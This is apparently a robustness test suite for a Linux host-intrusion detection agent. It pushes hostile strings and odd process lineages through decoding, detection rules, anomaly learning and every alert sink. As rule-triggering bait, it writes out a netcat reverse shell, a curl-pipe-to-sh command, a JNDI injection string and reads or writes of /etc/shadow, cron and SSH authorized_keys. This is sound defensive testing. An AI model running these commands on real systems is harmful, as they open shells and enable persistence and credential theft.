"""The whole pipeline on hostile input: nothing raises, every output line is JSON, the state reloads the same.

A local user controls the strings of the processes they run and the shape of their lineage. Generated events
carry bytes that are not UTF-8 (surrogateescape-decoded, as the decoder and the /proc reader give them), lone
surrogates, NUL, newlines, control characters, 100 KB strings, argc 0, and lineages that are deep or look
cyclic (pid reuse, a process that is its own parent, two that are each other's, long fork chains). They go
the agent's way: raw perf samples → decoder (where the bytes can be a sample) → process table (ReplayFacts)
→ the shipped rules → the anomaly model in learning mode and the shipped default model → the periodic save
and a reload of the state → every output (ECS and Falco, file sink, syslog framing, HTTP batch bodies, spool
round trip, `sentinel events` documents, captures, the agent's own diagnostics).
"""

from __future__ import annotations

import contextlib
import dataclasses
import functools
import io
import itertools
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import numpy as np
import orjson
import pytest
import structlog
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sentinel import log as logmod
from sentinel import tasks
from sentinel.alerts.ecs import EcsRenderer
from sentinel.anomaly.live import (
    PHASE_DETECTION,
    PHASE_LEARNING,
    AnomalyEngine,
    AnomalySettings,
    find_default_model,
    open_engine,
)
from sentinel.anomaly.model import load_model
from sentinel.anomaly.state import HostState
from sentinel.capture import CaptureReader, CaptureWriter, capture_header
from sentinel.config import Config
from sentinel.detect import DetectionStream, find_rules_dir, load_ruleset
from sentinel.events import AF_INET, AF_INET6, AF_UNIX, Event, EventType
from sentinel.pipeline import EventStream, parse_types
from sentinel.process.facts import ProcFacts, ReplayFacts
from sentinel.process.table import ProcessTable
from sentinel.sensor.decoder import CONNECT_FIXED, FORK_FIXED, HEADER_SIZE, OPEN_FIXED, OPEN_KEY, decode
from sentinel.sinks import FileSink, MultiSink, SinkConfig
from sentinel.sinks.http import HttpTransport
from sentinel.sinks.spool import Spool
from sentinel.sinks.syslog import Rfc5424, frame
from tests.unit.detect_fixtures import HOST, ListSink, S
from tests.unit.test_decoder import exec_sample, header

# ---- hostile strings --------------------------------------------------------------------------------------


def raw(data: bytes) -> str:
    """How the decoder, the /proc reader and the capture reader turn the kernel's bytes into str."""
    return data.decode("utf-8", "surrogateescape")


BIG = [
    raw(bytes(range(256)) * 400),  # 100 KB, every byte value
    "A" * 100_000,
    "\\" * 50_000 + raw(b"\xff") * 50_000,
    ("\n\x00\x1b[31m\u2028" * 15_000)[:100_000],
]
SPECIAL = [
    "", "\x00", "a\nb", "\r\n", "\t\x0b\x0c\x7f", "\u2028\u2029", "\\x41", "\\\\xff", "\ud800", "x\udfffy",
    raw(b"\xc3\x28"), raw(b"\xed\xa0\x80"), "../../etc/shadow", "/etc/shadow", "@abstract", " ", "%proc.name",
    "{}", "${jndi:ldap://x/a}", "/tmp/" + raw(b"x-\xff/f\xfe"), "é✓\U0001f600",
]  # fmt: skip
small_text = st.one_of(
    st.binary(max_size=40).map(raw),
    st.text(max_size=20),
    st.sampled_from(SPECIAL),
)
# One string in about thirty is 100 KB: enough to meet every stage, not so many that examples crawl.
text = st.integers(0, 29).flatmap(lambda i: st.sampled_from(BIG) if i == 0 else small_text)
path_text = st.one_of(text, text.map(lambda t: "/tmp/" + t), text.map(lambda t: t + "/" + t))

O_RDONLY, O_WRITE = 0o2000000, 0o2000101  # O_CLOEXEC; O_WRONLY | O_CREAT | O_CLOEXEC
# Operations the shipped rules alert on, each carrying a hostile string (``t``) into the alert's fields.
BAITS: tuple[Any, ...] = (
    lambda t: ("exec", "/tmp/" + t, ["/tmp/x", t]),
    lambda t: ("exec", "/dev/shm/.x", ["x", "-c", t]),
    lambda t: ("exec", "/usr/bin/nc", ["nc", "-e", "/bin/sh", t, "4444"]),
    lambda t: ("exec", "/bin/sh", ["sh", "-c", f"curl http://x/{t} | sh"]),
    lambda t: ("open", "/etc/shadow", O_RDONLY),
    lambda t: ("open", "/etc/cron.d/" + t, O_WRITE),
    lambda t: ("open", "/root/.ssh/authorized_keys", O_WRITE),
    lambda t: ("connect", 3333),
)

# A small pool: pids are reused, forked onto themselves and onto each other.
PIDS = (1, 100, 200, 201, 202, 300, 301, 4242)
pid = st.sampled_from(PIDS)
op = st.one_of(
    st.tuples(st.just("fork"), pid, pid),  # parent, child (the same: a process that is its own parent)
    st.tuples(st.just("exec"), pid, text, path_text, st.lists(text, max_size=5), st.sampled_from([0, -2])),
    st.tuples(st.just("open"), pid, text, path_text, st.sampled_from([-100, 3, 77]), st.sampled_from([3, -2]),
              st.sampled_from([O_RDONLY, O_WRITE])),
    st.tuples(st.just("connect"), pid, text, st.sampled_from([AF_INET, AF_INET6, AF_UNIX]), path_text,
              st.integers(0, 65535)),
    st.tuples(st.just("chdir"), pid, text, path_text),
    st.tuples(st.just("exit"), pid, text),
    st.tuples(st.just("bait"), pid, text, st.integers(0, len(BAITS) - 1)),  # what shipped rules alert on
    st.tuples(st.just("bait"), pid, text, st.integers(0, len(BAITS) - 1)),  # (twice as likely as the others)
    st.tuples(st.just("chain"), pid, st.integers(1, 8)),  # a fork/exec chain below pid (deep: see the test)
)  # fmt: skip
# /proc's strings show in every descendant's document: hostile, but not 100 KB (events carry those)
facts_text = st.one_of(st.none(), small_text)


@st.composite
def hostile_facts(draw: Any) -> list[ProcFacts]:
    """What /proc showed at bootstrap: init, a shell with hostile strings, a process that is its own parent,
    two that are each other's parent, and one whose parent never existed."""
    args = draw(st.one_of(st.none(), st.lists(small_text, max_size=4)))
    return [
        ProcFacts(pid=1, start_ticks=1, ppid=0, comm="systemd", exe="/usr/lib/systemd/systemd", cwd="/",
                  args=["/sbin/init"], uid=0, gid=0),
        ProcFacts(pid=100, start_ticks=50, ppid=1, comm=draw(small_text), exe=draw(facts_text),
                  cwd=draw(facts_text), args=args, uid=1000, gid=1000),
        ProcFacts(pid=300, start_ticks=60, ppid=300, comm=draw(small_text), exe=draw(facts_text), uid=1000,
                  gid=1000),
        ProcFacts(pid=201, start_ticks=70, ppid=202, comm="a", exe="/tmp/a", uid=1000, gid=1000),
        ProcFacts(pid=202, start_ticks=71, ppid=201, comm="b", exe="/tmp/b", uid=1000, gid=1000),
        ProcFacts(pid=301, start_ticks=80, ppid=99_999, comm=draw(small_text), uid=0, gid=0),
    ]  # fmt: skip


# ---- events, through the decoder where the bytes can be a perf sample --------------------------------------


def kernel_bytes(text: str, limit: int | None = None) -> bytes | None:
    """The bytes a kernel string would have had; None when the text holds what no sample can carry."""
    try:
        data = text.encode("utf-8", "surrogateescape")
    except UnicodeEncodeError:  # a lone surrogate no byte produced
        return None
    if b"\0" in data:  # the probes copy C strings
        return None
    return data[:limit] if limit is not None else data


def sample(kind: str, comm: bytes, *a: Any) -> bytes:
    """The perf sample the probe would have sent (the decoder's layouts, test_decoder's builders)."""
    head = header({"exec": 1, "open": 2, "connect": 3, "fork": 4, "exit": 5, "chdir": 6}[kind], comm=comm)
    if kind == "exec":  # the helper's sample with this header (its own has a fixed comm)
        filename, argv, ret = a
        return head + exec_sample(filename, argv, ret=ret)[HEADER_SIZE:]
    if kind in ("open", "chdir"):
        path, dirfd, ret, flags = a
        return (
            head
            + OPEN_FIXED.pack(ret, flags, 0o644, dirfd, len(path) + 1)
            + bytes(OPEN_KEY.size)
            + path
            + b"\0"
        )
    if kind == "connect":
        family, address, port = a
        if family == AF_UNIX:
            body = CONNECT_FIXED.pack(
                -111, 3, family, 0, 1, 2 + len(address), bytes(16), address.ljust(108, b"\0")
            )
        else:
            addr = (address * 16)[:16] if address else bytes(16)
            body = CONNECT_FIXED.pack(-115, 3, family, port, 1, 16, addr, bytes(108))
        return head + body
    (child,) = a
    return head + FORK_FIXED.pack(child, child, 0x11, 0, 0, 0, 0, 0)


class Builder:
    """Turns generated operations into events in time order: decoded from perf samples when every string of
    the event can be bytes the kernel gave (counted in ``decoded``), else built directly."""

    def __init__(self) -> None:
        self.ts = 10 * S
        self.decoded = 0
        self.built = 0
        self.next_pid = itertools.count(10_000)

    def _event(self, kind: str, pid: int, comm: str, sample_args: tuple[Any, ...] | None, **kw: Any) -> Event:
        self.ts += 1_000_000
        etype = {"exec": EventType.EXEC, "open": EventType.OPEN, "connect": EventType.CONNECT,
                 "fork": EventType.FORK, "exit": EventType.EXIT, "chdir": EventType.CHDIR}[kind]  # fmt: skip
        comm_bytes = kernel_bytes(comm, 15)
        if sample_args is not None and comm_bytes is not None:
            self.decoded += 1
            ev = decode(sample(kind, comm_bytes, *sample_args))
            return dataclasses.replace(ev, ts_ns=self.ts, pid=pid, tid=pid, uid=1000, gid=1000)
        self.built += 1
        return Event(type=etype, ts_ns=self.ts, pid=pid, tid=pid, uid=1000, gid=1000, comm=comm, **kw)

    def events(self, ops: list[tuple[Any, ...]]) -> Iterator[Event]:
        for o in ops:
            kind, p = o[0], o[1]
            if kind == "fork":
                yield self._event("fork", p, "sh", (o[2],), child_pid=o[2], clone_flags=0x11)
            elif kind == "exec":
                _, _, comm, filename, argv, ret = o
                fb, ab = kernel_bytes(filename), [kernel_bytes(x) for x in argv]
                args = (fb, ab, ret) if fb is not None and None not in ab else None
                yield self._event("exec", p, comm, args, filename=filename, argv=argv, argc_total=len(argv),
                                  ret=ret)  # fmt: skip
            elif kind in ("open", "chdir"):
                comm, path = o[2], o[3]
                dirfd, ret, flags = (o[4], o[5], o[6]) if kind == "open" else (-100, 0, O_RDONLY)
                pb = kernel_bytes(path, 4000)
                args = (pb, dirfd, ret, flags) if pb is not None and pb == kernel_bytes(path) else None
                yield self._event(kind, p, comm, args, path=path, dirfd=dirfd, ret=ret, open_flags=flags)
            elif kind == "connect":
                _, _, comm, family, address, port = o
                ab = kernel_bytes(address, 100)
                args = (family, ab, port) if ab is not None else None
                kw = {"family": family, "port": port, "fd": 3, "sock_type": 1, "ret": -115}
                if family == AF_UNIX:
                    kw["address"] = address
                    if ab is not None and ab != kernel_bytes(address):
                        args = None
                else:
                    kw["address"] = "10.0.0.1" if family == AF_INET else "::1"
                yield self._event("connect", p, comm, args, **kw)
            elif kind == "exit":
                yield self._event("exit", p, o[2], (0,))
            elif kind == "bait":
                bait = BAITS[o[3]](o[2])
                if bait[0] == "exec":
                    yield from self.events([("exec", p, "sh", bait[1], bait[2], 0)])
                elif bait[0] == "open":
                    yield from self.events([("open", p, o[2], bait[1], -100, 3, bait[2])])
                else:
                    yield from self.events([("connect", p, o[2], AF_INET, "", bait[1])])
            else:  # a fork/exec chain: each new process forks the next, as deep as asked
                parent = p
                for _ in range(o[2]):
                    child = next(self.next_pid)
                    yield self._event("fork", parent, "sh", (child,), child_pid=child)
                    yield self._event("exec", child, "sh", (b"/bin/sh", [], 0), filename="/bin/sh", argv=[])
                    parent = child


# ---- shared, expensive once --------------------------------------------------------------------------------


@functools.cache
def shipped_rules() -> Any:
    rules_dir = find_rules_dir()
    assert rules_dir is not None
    outcome = load_ruleset([rules_dir])
    assert outcome.ruleset is not None, outcome.errors
    return outcome.ruleset


@pytest.fixture(scope="module")
def workdir(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    yield tmp_path_factory.mktemp("hostile")


@pytest.fixture(scope="module")
def diagnostics() -> Iterator[io.StringIO]:
    """The agent's own JSON diagnostics, kept for the checks (every line must be JSON too)."""
    buf = io.StringIO()
    logmod.configure("debug")
    structlog.configure(logger_factory=structlog.PrintLoggerFactory(file=buf))
    try:
        yield buf
    finally:
        logmod.configure("info")


def table_of(facts: list[ProcFacts]) -> ProcessTable:
    source = ReplayFacts()
    for f in facts:
        source.feed(f)
    table = ProcessTable("b", source, clk_tck=100, user_lookup=lambda _: None, group_lookup=lambda _: None)
    table.bootstrap()
    return table


def format_sinks() -> tuple[MultiSink, ListSink, ListSink]:
    """One sink per alert format: each alert is rendered as ECS and as Falco."""
    ecs, falco = ListSink(), ListSink()
    ecs.format, falco.format = "ecs", "falco"  # type: ignore[attr-defined]
    return MultiSink([ecs, falco]), ecs, falco  # type: ignore[list-item]


# ---- checks ---------------------------------------------------------------------------------------------


def json_line(line: bytes) -> dict[str, Any]:
    """One line of strict JSON (orjson refuses lone surrogates and invalid UTF-8)."""
    assert b"\n" not in line and b"\r" not in line
    doc = orjson.loads(line)
    assert isinstance(doc, dict)
    return doc


def has_path(doc: Any, parts: list[str]) -> bool:
    """A dotted field name resolves (lists are walked through, as ``sentinel.escaped_fields`` names them)."""
    if not parts:
        return True
    if isinstance(doc, list):
        return any(has_path(item, parts) for item in doc)
    if not isinstance(doc, dict):
        return False
    return any(has_path(doc[key], parts[i:]) for i in range(1, len(parts) + 1)
               if (key := ".".join(parts[:i])) in doc)  # fmt: skip


def check_ecs(line: bytes) -> None:
    doc = json_line(line)
    for name in doc.get("sentinel", {}).get("escaped_fields", []):
        assert has_path(doc, name.split(".")), name


_NOT_A_BYTE = re.compile("[\ud800-\udc7f\udd00-\udfff]")


def saved_form(text: str) -> str:
    """What the rule keeps of a key: everything, except a surrogate no byte produced (it becomes U+FFFD)."""
    return _NOT_A_BYTE.sub("\ufffd", text)


def profile_items(state: Any, clean: bool = False) -> dict[str, dict[str, dict[str, float]]]:
    form = saved_form if clean else (lambda t: t)
    return {kind: {form(sub): {form(i): c for i, c in p.items.items()} for sub, p in t.subjects.items()}
            for kind, t in state.tables.items()}  # fmt: skip


def check_state(engine: AnomalyEngine, state_dir: Path) -> None:
    """profiles.json is strict JSON and reloads to the engine's profiles; learning.json and the sample
    reload too."""
    orjson.loads((state_dir / "anomaly" / "profiles.json").read_bytes())
    profiles, problem = HostState(state_dir).load_profiles()
    assert problem is None and profiles is not None
    assert profile_items(profiles) == profile_items(engine.extractor.state, clean=True)
    for kind, table in engine.extractor.state.tables.items():
        got = profiles.tables[kind]
        assert (got.size, got.last_decay_ns, got.max_items) == (
            table.size,
            table.last_decay_ns,
            table.max_items,
        )
    assert engine.progress is not None and engine.sample is not None
    progress, sample, problems = HostState(state_dir).load_learning(engine.settings.sample_rows)
    assert problems == [] and progress is not None and sample is not None
    assert progress.events == engine.progress.events and sample.seen == engine.sample.seen
    x, wall = sample.arrays()
    ex, ewall = engine.sample.arrays()
    assert np.array_equal(x, ex) and np.array_equal(wall, ewall)


def check_sinks(lines: dict[str, list[bytes]], where: Path) -> None:
    """Every sink's encoding of the rendered alerts: the file sink, RFC 5424 framing, the HTTP presets'
    bodies and the spool all carry the same JSON documents."""
    everything = lines["ecs"] + lines["falco"]
    path = where / "alerts.json"
    file_sink = FileSink(str(path), fmt="ecs")
    for line in everything:
        file_sink.write(line)
    file_sink.close()
    assert [json_line(x) for x in path.read_bytes().splitlines()] == [orjson.loads(x) for x in everything]

    builder = Rfc5424(13, "sentinel", hostname=raw(b"host\xff"), procid=7)
    framed = frame([builder.message(line, "warning") for line in everything])
    pos = 0
    for line in everything:
        length, _, rest = framed[pos:].partition(b" ")
        message = rest[: int(length)]
        pos += len(length) + 1 + int(length)
        assert message.startswith(b"<108>1 ") and message.endswith(b" alert - " + line)
    assert pos == len(framed)

    for preset, fmt in (("webhook", "ecs"), ("splunk_hec", "ecs"), ("falcosidekick", "falco")):
        cfg = SinkConfig(kind="http", target="http://127.0.0.1:9/x", preset=preset,
                         headers={"Authorization": "Splunk t"})  # fmt: skip
        transport = HttpTransport(cfg)
        batch = lines[fmt][: transport.batch_max]
        if not batch:
            continue
        body = transport.body(batch)
        docs = [json_line(x) for x in body.splitlines() if x]
        if preset == "splunk_hec":
            docs = [d["event"] for d in docs]
        assert docs == [orjson.loads(x) for x in batch]

    spool = Spool(str(where / "spool"), 64 << 20, "test")
    try:
        for line in everything:
            spool.append(line)
        spool.flush()
        got: list[bytes] = []
        while (batch_read := spool.peek(1000)) is not None and batch_read.lines:
            got.extend(batch_read.lines)
            spool.ack(batch_read)
        assert got == everything
    finally:
        spool.close()


def check_capture(events: list[Event], facts: list[ProcFacts], where: Path) -> None:
    """Captures store the kernel's bytes: what can be recorded reads back identical."""
    path = where / "capture"
    kept: list[Event] = []
    with CaptureWriter(path, capture_header("test", host=HOST.to_dict())) as writer:
        for f in facts:  # one holding a lone surrogate no byte produced is refused, never half written
            with contextlib.suppress(ValueError):
                writer.write_facts(f)
        for e in events:
            try:
                writer.write_event(e)
            except ValueError:
                continue
            kept.append(e)
    with CaptureReader(str(path)) as reader:
        read = [item for item in reader if isinstance(item, Event)]
        assert reader.problem is None
    assert read == kept


# ---- the pipeline ------------------------------------------------------------------------------------------

_example = itertools.count()
# A host name is any bytes root set (sethostname); with no machine id, the agent id is derived from it.
HOSTILE_HOST = dataclasses.replace(HOST, hostname=raw(b"h\xffst\n"), machine_id="")
HOSTILE_PROBLEM = "cannot train on " + raw(b"/tmp/x-\xff") + "\n\x00"


@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
@given(facts=hostile_facts(), ops=st.lists(op, min_size=1, max_size=25), deep=st.one_of(st.none(), pid))
def test_hostile_events_through_every_stage(
    facts: list[ProcFacts],
    ops: list[tuple[Any, ...]],
    deep: int | None,
    workdir: Path,
    diagnostics: io.StringIO,
) -> None:
    where = workdir / f"ex{next(_example)}"
    where.mkdir()
    if deep is not None:  # a long fork chain below that process, past the table's depth cap (64)
        ops = [*ops[: len(ops) // 2], ("chain", deep, 70), *ops[len(ops) // 2 :]]
    builder = Builder()
    events = list(builder.events(ops))
    log = logmod.get_logger()

    # `sentinel events`: one ECS document per event
    out = io.BytesIO()
    event_stream = EventStream(table_of(facts), EcsRenderer(HOSTILE_HOST), out, parse_types("all"))
    for e in events:
        event_stream.handle(e)
    documents = out.getvalue().splitlines()
    assert len(documents) == len(events)
    for line in documents:
        check_ecs(line)

    # `sentinel run`: rules and the model, learning (with its periodic save) and a trained model detecting
    learning, _ = open_engine(AnomalySettings(state_dir=str(where / "state"), save_interval_s=0.0), log)
    default, notices = open_engine(AnomalySettings(model=str(find_default_model()), state_dir=""), log)
    assert learning is not None and learning.phase == PHASE_LEARNING
    assert default is not None and default.phase == PHASE_DETECTION and not notices
    lines: dict[str, list[bytes]] = {"ecs": [], "falco": []}
    for engine in (learning, default):
        failures = tasks.reset()
        sink, ecs, falco = format_sinks()
        table, rules, redactor = table_of(facts), shipped_rules(), Config().redactor()  # default redaction
        host = HOSTILE_HOST if engine is learning else HOST  # (every document escaped: the slow path)
        stream = DetectionStream(table, rules, host, sink, "ecs", 60.0, anomaly=engine, redactor=redactor)
        stream.task_failures = failures
        for e in events:
            stream.handle(e)
        stream.flush()
        engine.tick(log)  # the periodic work: learning time, the save
        failures.record("training", ValueError(HOSTILE_PROBLEM), log)  # a failed task's message quoting bytes
        stream.report_task_failures(builder.ts)
        assert (stream.match_errors, stream.anomaly_errors) == (0, 0)
        stream.close()  # summaries, the model's last batch, the final save
        snapshot = failures.snapshot()
        assert snapshot.pop("training") == 1 and set(snapshot.values()) == {0}, snapshot
        assert ecs.lines and len(ecs.lines) == len(falco.lines)
        for line in ecs.lines:
            check_ecs(line)
        for line in falco.lines:
            doc = json_line(line)
            assert isinstance(doc["output_fields"], dict) and isinstance(doc["output"], str)
        lines["ecs"] += ecs.lines
        lines["falco"] += falco.lines
    assert learning.stats.saves >= 2 and learning.stats.save_errors == 0

    check_state(learning, where / "state")
    check_sinks(lines, where)
    check_capture(events, facts, where)
    for line in diagnostics.getvalue().splitlines():
        json_line(line.encode())
    diagnostics.seek(0)
    diagnostics.truncate()


def test_the_generator_reaches_the_decoder_and_builds_the_rest() -> None:
    """The examples above are not all built directly: perf samples are decoded whenever they can be."""
    builder = Builder()
    ops = [("exec", 100, "sh", raw(b"/tmp/\xff"), [raw(b"\xfe"), "-c"], 0),
           ("open", 100, "x\ud800", "/a", -100, 3, 0),
           ("connect", 100, "nc", AF_UNIX, raw(b"/run/\xff"), 0), ("chain", 100, 3)]  # fmt: skip
    events = list(builder.events(ops))
    assert builder.decoded == 2 + 6 and builder.built == 1
    assert events[0].filename.encode("utf-8", "surrogateescape") == b"/tmp/\xff"
    assert events[2].address.encode("utf-8", "surrogateescape") == b"/run/\xff"


# ---- training on a hostile baseline: the model directory it writes -----------------------------------------


def test_training_on_a_hostile_baseline_writes_a_model_that_reloads(tmp_path: Path) -> None:
    """The host model's profiles.json and manifest.json are strict JSON; its keys reload exactly."""
    log = logmod.get_logger()
    settings_ = AnomalySettings(
        state_dir=str(tmp_path), learn_period_s=1.0, min_events=50, save_interval_s=0.0
    )
    engine, _ = open_engine(settings_, log)
    assert engine is not None and engine.progress is not None
    table = table_of(
        [
            ProcFacts(pid=1, start_ticks=1, ppid=0, comm="init", exe="/sbin/init", cwd="/", args=[]),
            ProcFacts(pid=100, start_ticks=5, ppid=1, comm="sh", exe="/bin/sh", cwd="/", args=["sh"]),
        ]
    )
    stream = DetectionStream(table, shipped_rules(), HOST, ListSink(), "ecs", anomaly=engine)
    names = [raw(b"/tmp/x-\xff"), "/tmp/back\\slash", raw(b"/opt/\xc3\x28/bin"), "/usr/bin/ls", BIG[0][:5000]]
    builder = Builder()
    ops: list[tuple[Any, ...]] = []
    for i in range(80):
        exe = names[i % len(names)] + f"/tool{i % 7}"
        ops += [
            ("fork", 100, 2000 + i),
            ("exec", 2000 + i, "t", exe, [exe, raw(b"\xff-arg")], 0),
            ("open", 2000 + i, "t", names[(i + 1) % len(names)] + "/f", -100, 3, O_RDONLY),
            ("exit", 2000 + i, "t"),
        ]
    for e in builder.events(ops):
        stream.handle(e)
    engine.progress.learned_s = 10.0
    expected = engine.extractor.state.copy()  # what training copies
    engine.tick(log)  # starts training on its thread; the next tick after it is done switches models
    if engine.job is not None:
        assert engine.job.done.wait(120)
        engine.tick(log)
    assert engine.phase == PHASE_DETECTION and engine.model_name == "host", engine.job
    model_dir = tmp_path / "anomaly" / "model"
    orjson.loads((model_dir / "profiles.json").read_bytes())
    orjson.loads((model_dir / "manifest.json").read_bytes())
    model = load_model(model_dir)
    assert model.profiles is not None
    assert profile_items(model.profiles) == profile_items(expected)
    assert any("\udcff" in k for k in model.profiles.tables["exe"].subjects[""].items)
    stream.close()
